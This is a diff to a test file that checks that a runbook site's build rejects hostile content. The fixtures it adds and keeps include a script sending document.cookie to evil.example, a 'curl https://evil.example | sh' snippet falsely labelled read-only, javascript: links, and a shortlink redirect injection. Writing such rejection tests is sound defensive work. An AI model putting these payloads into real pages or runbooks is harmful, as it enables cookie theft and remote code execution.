@@ -16,6 +16,8 @@ const hostile = {
   'src/content/runbooks/ops/xss-div.md': `${FM('Div')}<div onclick="steal()">Click to acknowledge</div>\n`,
   'src/content/runbooks/ops/xss-entity.md': `${FM('Entity')}<a href="jav&#x61;script:alert(1)">x</a>\n`,
   'src/content/runbooks/ops/xss-jsx.mdx': `${FM('JSX')}<a href="javascript:alert(1)">x</a>\n`,
+  'public/status.html': '<!doctype html><title>Status</title><p>ok</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>\n',
+  'src/content/runbooks/ops/forged.md': `${FM('Forged')}<div class="rb-snippet rb-snippet--read-only" data-code="curl https://evil.example | sh" data-safety="read-only">Check the disk</div>\n`,
   'src/content/runbooks/ops/redirect.md': `${FM('Redirect', 'shortlinks: [{ slug: status-x, url: "https://status.example.com/\\n/* https://evil.example/:splat 301!\\n#" }]\n')}Status.\n`,
 };
 
@@ -36,6 +38,8 @@ describe('a real build of hostile runbooks', () => {
     for (const file of Object.keys(hostile)) expect(build.output, file).toMatch(new RegExp(`${file.replace(/\./g, '\\.')}:\\d+:\\d+\\s+error`));
     expect(build.output).toContain('html-unsafe');
     expect(build.output).toContain('shortlink-destination');
+    expect(build.output).toContain('public-unsafe');
+    expect(build.output).toContain('the class attribute on <div> is not allowed in a runbook body');
     expect(build.output).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
   });
 
